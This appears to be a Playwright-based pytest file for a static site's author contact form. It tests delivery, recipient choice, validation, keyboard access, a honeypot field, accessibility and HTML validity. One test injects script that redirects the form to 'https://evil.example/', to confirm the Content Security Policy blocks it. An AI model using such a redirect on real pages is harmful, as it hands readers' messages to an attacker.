"""The form to write to an author, in a real browser: a plain POST that arrives, for everybody."""

from __future__ import annotations

import json
import subprocess
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qsl

import pytest

PERSON = "---\nname: {}\ncontact: {{email: {}@example.com}}\n---\nBio\n"
SITE = {
    "content/people/maya.md": PERSON.format("Maya Okafor", "maya"),
    "content/people/jonas.md": PERSON.format("Jonas Lind", "jonas"),
    "content/posts/lens.md": '---\ntitle: A <lens> & "more"\nslug: lens\nauthors: [maya]\ndate: 2026-03-02\n---\nWords.\n',
    "content/posts/both.md": "---\ntitle: Both\nauthors: [maya, jonas]\ndate: 2026-03-03\n---\nWords.\n",
}
FIELDS = ["name", "email", "message"]


@pytest.fixture
def program() -> Iterator[Any]:
    """A program elsewhere that takes forms and sends the reader on to `thanks`: what it got is in `took`."""

    class Program(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"])).decode()
            server.took.append((self.path, self.headers["Content-Type"], parse_qsl(body, keep_blank_values=True)))
            self.send_response(303)
            self.send_header("Location", server.thanks)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server: Any = ThreadingHTTPServer(("127.0.0.1", 0), Program)
    server.took, server.thanks = [], ""
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def address(make_site: Callable[..., Any], program: Any, host: Callable[..., str]) -> str:
    """The site, built and served, its forms sent to the program."""
    endpoint = f"http://127.0.0.1:{program.server_port}/take?from=news"
    site = make_site(SITE, contact={"email": "form", "service": "endpoint", "endpoint": endpoint})
    assert () == site.build().problems
    program.thanks = host(site.root / "public") + "/thanks/"
    return program.thanks.removesuffix("/thanks/")


def said(page: Any) -> list[str]:
    """What the browser complains of, from now on: a policy that refuses something among it."""
    words: list[str] = []
    page.on("console", lambda message: message.type in ("error", "warning") and words.append(message.text))
    return words


def test_a_message_arrives_without_a_script(address: str, program: Any, open_page: Any) -> None:
    """Every field is what the page says, the policies let it go, and the reader is thanked."""
    page = open_page(java_script_enabled=False)
    complaints = said(page)
    page.goto(f"{address}/2026/lens/")
    page.locator("details.write summary").click()
    page.get_by_label("Your e-mail address").fill("ada@reader.example")
    page.get_by_label("Your message").fill("Why did it\nbreak? äöü")
    page.get_by_role("button", name="Send").click()
    page.wait_for_url("**/thanks/")

    ((path, kind, fields),) = program.took
    assert ("/take?from=news", "application/x-www-form-urlencoded") == (path, kind)
    assert {
        "author": "maya", "name": "", "email": "ada@reader.example", "message": "Why did it\r\nbreak? äöü", "website": "",
        "post_url": "https://news.example.com/2026/lens/", "post_title": 'A <lens> & "more"', "subject": 'Re: A <lens> & "more"',
    } == dict(fields)  # fmt: skip
    assert "Thank you" == page.locator("h1").inner_text()
    assert [] == complaints


def test_a_reader_chooses_whom_of_several_to_write_to(address: str, program: Any, open_page: Any) -> None:
    """Nobody is chosen for her: a message for one would go to the other."""
    page = open_page()
    for name, key in (("Maya Okafor", "maya"), ("Jonas Lind", "jonas")):
        page.goto(f"{address}/2026/both/")
        page.locator("details.write summary").click()
        page.get_by_label("Your e-mail address").fill("ada@reader.example")
        page.get_by_label("Your message").fill("Hello")
        before = len(program.took)
        page.get_by_role("button", name="Send").click()
        assert (before, f"{address}/2026/both/") == (len(program.took), page.url)
        page.get_by_role("group", name="To").get_by_role("radio", name=name).check()
        page.get_by_role("button", name="Send").click()
        page.wait_for_url("**/thanks/")
        assert key == dict(program.took[-1][2])["author"]


def test_without_an_address_or_a_word_nothing_is_sent(address: str, program: Any, open_page: Any) -> None:
    """The browser says what is missing."""
    page = open_page(java_script_enabled=False)
    page.goto(f"{address}/people/maya/")
    page.get_by_role("button", name="Send").click()
    page.get_by_label("Your e-mail address").fill("nobody")
    page.get_by_label("Your message").fill("Hello")
    page.get_by_role("button", name="Send").click()

    assert [] == program.took
    assert f"{address}/people/maya/" == page.url


def test_a_link_to_the_form_unfolds_it(address: str, open_page: Any) -> None:
    """On the person's own page it is unfolded from the start."""
    page = open_page()
    page.goto(f"{address}/2026/lens/")
    assert not page.locator("#write").is_visible()

    page.goto(f"{address}/2026/lens/#write")
    page.get_by_label("Your message").wait_for()
    page.goto(f"{address}/people/maya/")
    assert page.get_by_label("Your message").is_visible()


def test_the_keyboard_reaches_every_field_and_never_the_trap(address: str, open_page: Any) -> None:
    """In the order of the page; who hears the page is not told of the trap either."""
    page = open_page()
    page.goto(f"{address}/people/maya/")
    page.locator("details.write summary").focus()
    reached = []
    for _ in range(4):
        page.keyboard.press("Tab")
        reached.append(page.evaluate("document.activeElement.name || document.activeElement.innerText"))

    assert [*FIELDS, "Send"] == reached
    assert 3 == page.locator("#write").get_by_role("textbox").count()
    assert 1 == page.locator("#write [name=website]").count()
    assert page.locator("#write .trap").evaluate("(trap) => trap.offsetWidth <= 1 && trap.offsetHeight <= 1")


@pytest.mark.parametrize("path", ["/2026/both/#write", "/people/maya/", "/thanks/"])
def test_the_form_shuts_nobody_out(path: str, address: str, open_page: Any, axe: str) -> None:
    """axe-core finds nothing, light and dark, on a telephone and on a desk; at 320 pixels nothing sticks out."""
    page = open_page()
    page.goto(address + path)
    page.evaluate(axe)
    found = []
    for scheme in ("light", "dark"):
        for width in (320, 1280):
            page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
            page.set_viewport_size({"width": width, "height": 900})
            for rule in page.evaluate("axe.run(document, {resultTypes: ['violations']})")["violations"]:
                found += [f"{scheme} {width}: {rule['id']}: {node['html'][:160]}" for node in rule["nodes"]]
            assert width == page.evaluate("document.documentElement.scrollWidth")

    assert [] == found, "\n".join(found)


def test_the_form_goes_nowhere_else(address: str, program: Any, open_page: Any) -> None:
    """A form that somebody slipped into the page is not sent to a stranger."""
    page = open_page()
    page.goto(f"{address}/people/maya/")
    with page.expect_event("console", lambda message: "form-action" in message.text):
        page.evaluate("form = document.querySelector('#write'); form.action = 'https://evil.example/'; form.submit()")

    assert f"{address}/people/maya/" == page.url


@pytest.mark.parametrize(
    "service",
    [
        {"service": "formspree", "endpoint": "xkgwpqzb"},
        {"service": "web3forms", "endpoint": "0e1a7d6c-3b52-4f0c-9a55-0d9b3d1c2f10"},
    ],
    ids=lambda service: service["service"],
)
def test_pages_with_forms_are_valid_html(service: dict, make_site: Callable[..., Any], vnu: list[str]) -> None:
    """The checker has nothing to say of any of them. Netlify's own attribute without data- it would not know."""
    site = make_site(SITE, contact={"email": "form", **service})
    assert () == site.build().problems
    pages = ["2026/lens/index.html", "2026/both/index.html", "thanks/index.html"]
    own = "(Resource|Inline script) violates Content Security Policy \\(meta tag\\): .*"
    command = [
        *vnu,
        "--filterpattern",
        own,
        "--format",
        "json",
        "--stdout",
        *(str(site.root / "public" / page) for page in pages),
    ]
    answer = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)

    assert [] == [
        m["message"] for m in json.loads(answer.stdout)["messages"] if m["type"] != "info" or m.get("subType")
    ]
